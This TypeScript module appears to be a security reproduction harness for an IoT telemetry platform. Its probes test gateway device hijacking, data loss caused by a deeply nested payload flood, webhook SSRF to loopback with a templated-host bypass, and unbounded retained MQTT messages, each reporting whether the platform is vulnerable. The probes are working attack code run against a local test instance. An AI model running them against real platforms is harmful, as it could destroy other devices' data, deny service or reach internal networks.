/**
 * Reproductions a device or a gateway can run: claiming a standalone device, losing other
 * devices' acknowledged data, SSRF through a webhook rule, and unbounded retained messages.
 */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import mqtt, { type MqttClient } from 'mqtt';
import type { Ctx, Finding } from './probes-web.js';
import { call, createDevice, field, sleep } from './server.js';

/** Connects a device over MQTT 3.1.1 (user name = access token), bounded at 5 s. */
export async function connectDevice(mqttPort: number, token: string, clientId: string): Promise<MqttClient> {
  return mqtt.connectAsync({ host: '127.0.0.1', port: mqttPort, protocolVersion: 4, username: token, clientId, reconnectPeriod: 0, connectTimeout: 5000, clean: true });
}

/** Publishes at QoS 1; true when PUBACKed within `ms`. */
async function publishAcked(client: MqttClient, topic: string, payload: string, ms: number, retain = false): Promise<boolean> {
  const ack = client.publishAsync(topic, payload, { qos: 1, retain }).then(
    () => true,
    () => false,
  );
  return Promise.race([ack, sleep(ms).then(() => false)]);
}

async function rawTelemetry(ctx: Ctx, deviceId: string, key: string): Promise<{ ts: number; value: unknown }[]> {
  const answer = await call(ctx.baseUrl, 'GET', `/api/devices/${deviceId}/telemetry?keys=${key}&from=0&to=${Date.now() + 86_400_000}&limit=10000`, ctx.adminToken);
  return ((answer.body as Record<string, { ts: number; value: unknown }[]> | undefined)?.[key] ?? []);
}

/** 4. A gateway names an existing standalone device in its telemetry. */
export async function probeGatewayClaim(ctx: Ctx, mqttPort: number, gatewayToken: string, standalone: { id: string; name: string }): Promise<Finding> {
  const client = await connectDevice(mqttPort, gatewayToken, 'repro-gateway');
  const payload = JSON.stringify({ [standalone.name]: [{ ts: Date.now(), values: { x: 1 } }] });
  const acked = await publishAcked(client, 'v1/gateway/telemetry', payload, 5000);
  await client.endAsync();
  await sleep(1500);
  const device = await call(ctx.baseUrl, 'GET', `/api/devices/${standalone.id}`, ctx.adminToken);
  const gatewayId = (device.body as { gatewayId?: unknown } | undefined)?.gatewayId ?? null;
  const stored = await rawTelemetry(ctx, standalone.id, 'x');
  const vulnerable = gatewayId !== null || stored.length > 0;
  const evidence = `gateway publish ${acked ? 'PUBACKed' : 'not acked'}; the standalone device's gatewayId ${gatewayId === null ? 'stays null' : 'became the gateway'}; ${stored.length} x point(s) stored for it`;
  return { id: '4', title: 'Gateway claims a standalone device', vulnerable, evidence };
}

interface Honest {
  readonly id: string;
  readonly client: MqttClient;
  readonly acked: Set<number>;
  sent: number;
}

const PUBLISH_MS = 8000;
const MAX_PER_DEVICE = 400;

/** 5. 20 honest devices at QoS 1 while one device sends a payload nested 100,000 levels. */
export async function probeLostData(ctx: Ctx, mqttPort: number): Promise<Finding> {
  const title = "Another device's payload loses acknowledged data";
  const honest: Honest[] = [];
  for (let i = 0; i < 20; i++) {
    const device = await createDevice(ctx.baseUrl, ctx.adminToken, `honest-${i}`);
    honest.push({ id: device.id, client: await connectDevice(mqttPort, device.token, `honest-${i}`), acked: new Set(), sent: 0 });
  }
  const attacker = await createDevice(ctx.baseUrl, ctx.adminToken, 'deep-nester');
  // Arrays keep the document under the old 256 KiB payload limit: 200,006 bytes, 100,000 levels.
  const deep = `{"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
  let attackerSent = 0;
  let attackerAcked = 0;
  let stopAttack = false;
  const attack = (async () => {
    while (!stopAttack) {
      let client: MqttClient | undefined;
      try {
        client = await connectDevice(mqttPort, attacker.token, `deep-nester-${attackerSent}`);
        while (!stopAttack && client.connected) {
          attackerSent++;
          if (await publishAcked(client, 'v1/devices/me/telemetry', deep, 2000)) attackerAcked++;
        }
      } catch {
        await sleep(200); // refused or disconnected: try again while the honest devices publish
      } finally {
        client?.end(true);
      }
    }
  })();
  // Each honest device publishes back to back (the next message once the last is acked) so the
  // platform always has honest rows queued when the attacker's message joins a group commit.
  const base = Date.now() - 60_000;
  const until = Date.now() + PUBLISH_MS;
  await Promise.all(
    honest.map(async (h) => {
      for (let seq = 0; seq < MAX_PER_DEVICE && Date.now() < until; seq++) {
        const payload = JSON.stringify({ ts: base + seq, values: { seq } });
        h.sent++;
        if (await publishAcked(h.client, 'v1/devices/me/telemetry', payload, 5000)) h.acked.add(seq);
      }
    }),
  );
  stopAttack = true;
  await Promise.race([attack, sleep(5000)]);
  await Promise.all(honest.map((h) => h.client.endAsync().catch(() => undefined)));
  await sleep(1500); // the last group commit
  let totalAcked = 0;
  let totalLost = 0;
  let devicesLosing = 0;
  for (const h of honest) {
    const stored = new Set((await rawTelemetry(ctx, h.id, 'seq')).map((p) => Number(p.value)));
    const lost = [...h.acked].filter((seq) => !stored.has(seq)).length;
    totalAcked += h.acked.size;
    totalLost += lost;
    if (lost > 0) devicesLosing++;
  }
  const sent = honest.reduce((n, h) => n + h.sent, 0);
  const evidence = `20 devices, ${sent} QoS 1 messages: ${totalAcked} PUBACKed, ${totalAcked - totalLost} of them stored, ${totalLost} acked-but-lost on ${devicesLosing} device(s); attacker sent ${attackerSent} nested payloads (${attackerAcked} acked)`;
  return { id: '5', title, vulnerable: totalLost > 0, evidence };
}

/** 8. A webhook rule aimed at a loopback HTTP server: does the platform reach it? */
export async function probeSsrf(ctx: Ctx, device: { id: string; token: string }): Promise<Finding> {
  const title = 'Webhook SSRF to loopback';
  const hits: string[] = [];
  const target = createServer((req, res) => {
    hits.push(`${req.method ?? '?'} ${req.url ?? '?'}`);
    res.writeHead(200).end('{}');
  });
  await new Promise<void>((r) => target.listen(0, '127.0.0.1', r));
  const port = (target.address() as AddressInfo).port;
  try {
    const rule = (url: string, name: string): unknown => ({ name, deviceId: device.id, trigger: 'telemetry', condition: 'ssrf > 0', actions: [{ type: 'webhook', url }] });
    const literal = await call(ctx.baseUrl, 'POST', '/api/rules', ctx.adminToken, rule(`http://127.0.0.1:${port}/hook`, 'ssrf literal'));
    let how = `rule with url http://127.0.0.1:${port}/hook → ${literal.status}`;
    if (literal.status !== 201) {
      // Refused at save: the URL may also be templated from device data, judged only at send time.
      const templated = await call(ctx.baseUrl, 'POST', '/api/rules', ctx.adminToken, rule(`http://\${host}:${port}/hook`, 'ssrf templated'));
      how += ` (${field(literal, 'error') || literal.text.slice(0, 60)}); templated http://\${host}:${port}/hook → ${templated.status}`;
    }
    const sent = await call(ctx.baseUrl, 'POST', `/api/v1/${device.token}/telemetry`, undefined, { ssrf: 1, host: '127.0.0.1' });
    const deadline = Date.now() + 5000;
    while (hits.length === 0 && Date.now() < deadline) await sleep(100);
    const evidence = `${how}; telemetry → ${sent.status}; the loopback server got ${hits.length === 0 ? 'nothing in 5 s' : hits.join(', ')}`;
    return { id: '8', title, vulnerable: hits.length > 0, evidence };
  } finally {
    target.closeAllConnections();
    await new Promise((r) => target.close(r));
  }
}

/** 11c. One device keeps 200 retained messages on distinct topics of its namespace. */
export async function probeRetained(ctx: Ctx, mqttPort: number): Promise<{ vulnerable: boolean; evidence: string }> {
  const name = 'retainer';
  const device = await createDevice(ctx.baseUrl, ctx.adminToken, name);
  const publisher = await connectDevice(mqttPort, device.token, 'retainer-pub');
  let acked = 0;
  for (let i = 0; i < 200; i++) if (await publishAcked(publisher, `devices/${name}/r/${i}`, `retained-${i}`, 3000, true)) acked++;
  await publisher.endAsync();
  const subscriber = await connectDevice(mqttPort, device.token, 'retainer-sub');
  let received = 0;
  let lastAt = Date.now();
  subscriber.on('message', (_topic, _payload, packet) => {
    if (packet.retain) {
      received++;
      lastAt = Date.now();
    }
  });
  const granted = await subscriber.subscribeAsync(`devices/${name}/r/#`, { qos: 0 });
  const deadline = Date.now() + 8000;
  while (Date.now() < deadline && Date.now() - lastAt < 1500) await sleep(100);
  await subscriber.endAsync();
  const grant = granted[0]?.qos;
  const evidence = `200 retained publishes on devices/${name}/r/<i>: ${acked} PUBACKed; a fresh subscriber (SUBACK ${grant ?? '?'}) received ${received} retained`;
  return { vulnerable: received >= 200, evidence };
}
